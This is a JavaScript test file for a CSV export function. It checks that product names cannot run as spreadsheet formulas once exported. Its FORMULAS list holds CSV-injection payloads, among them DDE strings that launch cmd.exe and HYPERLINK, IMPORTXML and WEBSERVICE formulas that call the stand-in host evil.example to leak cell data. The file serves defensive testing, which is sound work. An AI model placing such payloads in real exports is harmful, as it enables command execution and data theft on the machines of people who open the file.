import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csv } from '../../dist/endpoint/demand/csv.js';

/** What somebody may call a product so that the shop's spreadsheet runs it. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+491701234567',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-SUM(A1:A9)',
  '- oak',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '=@A1',
  '\t=1+1',
  '\tText',
  '\r=1+1',
  '\rText',
  '\n=1+1',
  '\n@A1',
  '\r\n-1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u2028=1+1',
  '\u3000=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe661+1',
  '\ufe621+1',
  '\ufe631+1',
  '\u22121+1',
  '"=1+1"',
];

/** A reader of RFC 4180. */
function parse(text) {
  const rows = [];
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row = [];
  for (const [, quoted, plain, end] of text.replace(/^\uFEFF/, '').matchAll(cells)) {
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe('E42 A table for spreadsheets', () => {
  it('has none of 42 formulas in it: each is a text that begins with an apostrophe', () => {
    assert.equal(new Set(FORMULAS).size, 42);
    const rows = FORMULAS.map((it) => [it, 1]);
    const text = csv(rows);
    assert.deepEqual(
      parse(text),
      FORMULAS.map((it) => [`'${it}`, '1']),
    );
    assert.equal(text.replace(/^\uFEFF/, '').split('"\'').length - 1, 42);
  });

  it('leaves other texts as they are', () => {
    const texts = [
      'Oak table',
      "L'oiseau",
      'a=b',
      '3-seater',
      '7 + 1',
      'ünïcode 表',
      '',
      '"quoted", twice',
      'two\nlines',
    ];
    assert.deepEqual(parse(csv([texts])), [texts]);
  });

  it('has numbers as numbers, also those below zero', () => {
    assert.equal(csv([[12, -3, 864.15, undefined, '12']]), '\uFEFF12,-3,864.15,,"12"\r\n');
  });

  it('cannot be left through a quote, a comma, a semicolon or a line break in a text', () => {
    const texts = ['","=1+1', '";=1+1;"', 'x\r\n=1+1', '"\r\n=1+1,"'];
    const [row, ...more] = parse(csv([texts]));
    assert.equal(more.length, 0);
    assert.deepEqual(
      row.map((it) => it.replace(/^'/, '')),
      texts,
    );
  });
});
